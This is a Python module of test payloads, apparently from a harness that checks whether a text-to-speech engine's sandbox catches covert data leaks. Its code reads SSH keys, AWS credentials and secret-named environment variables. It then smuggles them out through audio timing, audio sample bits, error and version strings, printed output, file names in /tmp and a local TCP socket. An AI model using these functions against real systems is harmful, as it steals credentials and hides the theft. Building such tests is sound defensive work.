"""Payloads that carry a secret out by what an honest worker also says: audio, errors, versions, output, names."""

# Payloads and their judges mean system calls, not paths.
# ruff: noqa: PTH109

from __future__ import annotations

import base64
import contextlib
import os
from pathlib import Path
from typing import Any

import numpy as np


def secret(world: dict[str, Any]) -> bytes:
    """The harness's key where it can be read, else whatever in reach looks like a secret."""
    if world.get("environment_only"):
        return os.environ.get("GITHUB_TOKEN", "").encode()[:64].strip()
    for path in (world["ssh"], Path("~/.ssh/id_rsa").expanduser(), Path("~/.aws/credentials").expanduser()):
        with contextlib.suppress(OSError):
            if content := Path(path).read_bytes():
                return content[:64].strip()
    for name, value in sorted(os.environ.items()):
        if any(word in name.upper() for word in ("KEY", "TOKEN", "SECRET", "PASSWORD", "CREDENTIAL")):
            return value.encode()[:64]
    return b""


def in_length(engine: Any, world: dict[str, Any]) -> None:
    """A byte in how long each rendering takes to say: forty renderings, forty bytes."""
    content = secret(world)
    speak = engine._speak

    def drip(text: str) -> Any:
        place = engine.rendered
        if place < len(content):
            engine.samples = np.full(1000 + content[place], 0.1, np.float32)
        return speak(text)

    engine._speak = drip


def in_samples(engine: Any, world: dict[str, Any]) -> None:
    """In the lowest digits of the audio."""
    content = np.frombuffer(secret(world), np.uint8)
    engine.samples = (np.full(len(content), 0.25, np.float32) + content.astype(np.float32) / 65536).astype(np.float32)


def in_raw_audio(engine: Any, world: dict[str, Any]) -> None:
    """The text itself as the bytes of the audio."""
    content = secret(world)
    engine.samples = np.frombuffer(content[: len(content) // 4 * 4], "<f4").copy()


def in_error(engine: Any, world: dict[str, Any]) -> None:
    engine.error = f"cannot find the phoneme {secret(world).decode('latin-1')}"


def in_version(engine: Any, world: dict[str, Any]) -> None:
    engine.versions = {"voice": "1.0+" + secret(world).hex()[:150]}


def in_output(engine: Any, world: dict[str, Any]) -> None:
    print("model card:", base64.b64encode(secret(world)).decode(), flush=True)


def in_output_reversed(engine: Any, world: dict[str, Any]) -> None:
    print("model card:", secret(world)[::-1].hex(), flush=True)


def in_file_name(engine: Any, world: dict[str, Any]) -> None:
    """A file named by the secret, where others can see it."""
    for folder in (world["reach"], "/tmp", os.getcwd()):
        with contextlib.suppress(OSError):
            Path(folder, secret(world).hex()[:100]).touch()


def of_environment(engine: Any, world: dict[str, Any]) -> None:
    """A token from the own environment, which takes no system call to read, by the way that the trial names."""
    globals()[engine.plan["way"]](engine, world | {"environment_only": True})


def over_tcp(engine: Any, world: dict[str, Any]) -> None:
    import socket

    with socket.create_connection(("127.0.0.1", world["tcp"]), 5) as sock:
        sock.sendall(world["token"].encode() + base64.b64encode(secret(world)))
